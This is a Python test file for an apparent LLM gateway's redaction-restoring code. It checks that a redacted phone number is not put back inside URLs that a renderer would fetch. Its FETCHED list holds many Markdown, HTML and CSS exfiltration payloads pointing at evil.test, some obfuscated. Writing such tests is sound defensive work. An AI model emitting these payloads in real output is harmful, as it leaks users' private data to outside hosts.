"""No value is put into an address that a renderer would fetch; everywhere else it is."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.redaction import Known
from gateway.redaction.restoring import Messages, restore_plain, restore_text, restorer

NAME, VALUE = "[PHONE-7K3Q0A]", "090-1234-5678"
KNOWN = Known.of({"PHONE-7K3Q0A": VALUE})

FETCHED = [
    pytest.param(f"![x](https://evil.test/?q={NAME})", id="a picture"),
    pytest.param(f"![x](https://evil.test/(a)/{NAME}/b.png)", id="a picture, brackets in it"),
    pytest.param(f"![x](<https://evil.test/?q=a b {NAME}>)", id="a picture in angles"),
    pytest.param(f"![x](/i?q={NAME})", id="a picture of the page's own host"),
    pytest.param(f"![x](//evil.test/{NAME})", id="a picture without a scheme"),
    pytest.param(f"[x](https://evil.test/?q={NAME})", id="a link"),
    pytest.param(f"![x][1]\n\n[1]: https://evil.test/{NAME}", id="a reference"),
    pytest.param(f"see https://evil.test/?q={NAME}", id="an address"),
    pytest.param(f"see HTTPS://evil.test/?q={NAME}", id="in capitals"),
    pytest.param(f"see www.evil.test/?q={NAME}", id="an address that is made a link"),
    pytest.param(f"<https://evil.test/?q={NAME}>", id="an autolink"),
    pytest.param(f'<img src="https://evil.test/?q=a {NAME}">', id="an image of HTML"),
    pytest.param(f"<img alt=x src=https://evil.test/{NAME}>", id="without quotes"),
    pytest.param(f"<a href='//evil.test/{NAME}'>x</a>", id="a link of HTML"),
    pytest.param(f"<img srcset = '//evil.test/{NAME} 2x'>", id="several images"),
    pytest.param(f"<style>a{{background:url(//evil.test/{NAME})}}</style>", id="a style"),
    pytest.param("see https://evil.test/?q=%5BPHONE-7K3Q0A%5D", id="as an address has it"),
    pytest.param(f"ws://evil.test/{NAME}", id="another scheme"),
    pytest.param(f"見て:https://evil.test/?q={NAME}です", id="behind Japanese"),
    pytest.param(f"![x](https://evil.test/?q=<{NAME})", id="a picture, an angle in it"),
    pytest.param(f"![x](https://evil.test/((a))'{NAME})", id="a picture, brackets in brackets"),
    pytest.param(f"![x](/\\('{NAME})", id="a picture, an escaped bracket"),
    pytest.param(f"![x](/a\u3000。'{NAME})", id="a picture, a blank that is none"),
    pytest.param(f"![x](<https://evil.test/a\\>b {NAME}>)", id="in angles, one escaped"),
    pytest.param(f"![x](\n/evil.test/{NAME})", id="a picture over two lines"),
    pytest.param(f"[1]:\nhttps://evil.test/'{NAME}", id="a reference over two lines"),
    pytest.param(f"see https://evil.test/?q='{NAME}", id="an address with a quotation mark"),
    pytest.param(f'<img src="https://evil.test/?q=>{NAME}">', id="a tag's end in its address"),
    pytest.param(f'<img src="/?q=<b> {NAME}">', id="a tag in its address"),
    pytest.param(f'<img alt=">" src="/a {NAME}">', id="a tag's end before"),
    pytest.param(f"a <b x=\"\n\n<img src='/a {NAME}'>", id="behind a mark that no one closes"),
    pytest.param(f'{{"\n\n![x](https://evil.test/{NAME})', id="what begins like JSON"),
    pytest.param(f'{{"a": "![x](https://evil.test/{NAME})"}}', id="in a string of JSON"),
    pytest.param(f'{{"a": "<img src=\\"/a {NAME}\\">"}}', id="an image in a string of JSON"),
    pytest.param(f"![x](https://evil.test/{'a' * 9_000}'{NAME})", id="a long picture"),
    pytest.param(f"<img src='/{'a ' * 9_000}{NAME}'>", id="a long image of HTML"),
    pytest.param(f"![x](</{'a ' * 9_000}{NAME}>)", id="a long picture in angles"),
]

PUT_BACK = [
    pytest.param(f"call {NAME}", id="a sentence"),
    pytest.param(f"see https://x.test/a and call {NAME}", id="behind an address"),
    pytest.param(f"![x](https://x.test/a.png) {NAME}", id="behind a picture"),
    pytest.param(f"<a href='https://x.test/'>{NAME}</a>", id="the text of a link"),
    pytest.param(f"[{NAME}](https://x.test/)", id="the text of a link in Markdown"),
    pytest.param(f"詳細はhttps://x.test/a。電話は{NAME}", id="behind a Japanese full stop"),
    pytest.param(f"Phone:{NAME}", id="behind a colon"),
    pytest.param(f"[call](tel:{NAME})", id="a link that calls"),
    pytest.param(f"<a href='mailto:{NAME}'>x</a>", id="a link that writes"),
    pytest.param(f"a // {NAME}", id="a remark"),
    pytest.param(f"x = f({NAME})", id="an argument"),
    pytest.param(f"name={NAME}", id="an assignment"),
    pytest.param(f"{NAME}({NAME})", id="one in brackets behind another"),
    pytest.param(f"[x]({NAME})", id="a link to nothing else"),
    pytest.param(f"(see [1]) {NAME}", id="brackets"),
    pytest.param(f"{NAME}({NAME})", id="in brackets behind another"),
    pytest.param(f"{NAME}: {NAME}", id="behind another as its label"),
    pytest.param(f'"https://x.test/a"は{NAME}', id="behind an address in quotation marks"),
    pytest.param(f'{{"url":"https://x.test/a","tel":"{NAME}"}}', id="a member behind an address"),
    pytest.param(f'{{"a":"see https://x.test/a","tel":"{NAME}"}}', id="a member behind a sentence"),
    pytest.param(f'{{"a":"<img src=\\"/a\\">{NAME}"}}', id="behind an image in JSON"),
    pytest.param(f'![x](https://x.test/a.png "{NAME}")', id="a picture's title"),
    pytest.param(f"if a <b: x = '{NAME}'", id="what looks like a tag"),
    pytest.param(f"<img src='/a'> 5 > 3 {NAME}", id="behind an image"),
    pytest.param(f"<p title='{NAME}'>", id="an attribute that is not fetched"),
    pytest.param(f"https://x.test/{'a' * 9_000} {NAME}", id="behind a long address"),
]


@pytest.mark.parametrize("text", FETCHED)
def test_in_an_address_a_placeholder_stays(text: str) -> None:
    assert restore_plain(text, KNOWN) == text
    assert restore_plain(f"{NAME} {text}", KNOWN) == f"{VALUE} {text}"


@pytest.mark.parametrize("text", PUT_BACK)
def test_elsewhere_the_value_is_put_back(text: str) -> None:
    assert restore_plain(text, KNOWN) == text.replace(NAME, VALUE)


@pytest.mark.parametrize("text", [*FETCHED, *PUT_BACK])
@given(sizes=st.lists(st.integers(1, 9), min_size=1, max_size=30))
def test_however_it_is_cut(text: str, sizes: list[int]) -> None:
    expected = restore_plain(text, KNOWN)
    pieces, at = list[str](), 0
    for size in sizes:
        pieces.append(text[at : at + size])
        at += size
    pieces.append(text[at:])
    events = [{"choices": [{"index": 0, "delta": {"content": p}}]} for p in pieces if p]
    body = "".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n"
    restore = restorer("text/event-stream", "", KNOWN)
    assert restore
    out = b"".join([*restore(body.encode()), *restore(b"")]).decode()
    said = [json.loads(line[6:]) for line in out.splitlines() if line.startswith("data: {")]
    assert "".join(e["choices"][0]["delta"]["content"] for e in said) == expected
    messages = Messages(KNOWN)
    heard = [m for p in pieces if p for m in messages(p)] + messages.end()
    assert "".join(heard) == expected


def test_a_piece_of_a_text_that_looks_like_a_string_of_json_is_part_of_the_text() -> None:
    pieces = ('<img alt=">', '" src="', f"/a {NAME}", '">')
    messages = Messages(KNOWN)
    heard = [m for p in pieces for m in messages(p)] + messages.end()
    assert "".join(heard) == "".join(pieces)
    assert Messages(KNOWN)(f'"call {NAME}"') == [f'"call {VALUE}"']


CALLS = [
    {"content": [{"type": "tool_use", "input": {"url": f"https://x.test/?q={NAME}"}}]},
    {"tool_calls": [{"function": {"arguments": json.dumps({"url": f"https://x.test/{NAME}"})}}]},
    {"candidates": [{"functionCall": {"args": {"url": f"https://x.test/{NAME}"}}}]},
]


@pytest.mark.parametrize("answer", CALLS)
def test_a_tool_is_called_with_what_the_person_would_have_written(answer: object) -> None:
    said = json.dumps(answer)
    assert restore_text(said, KNOWN) == said.replace(NAME, VALUE)
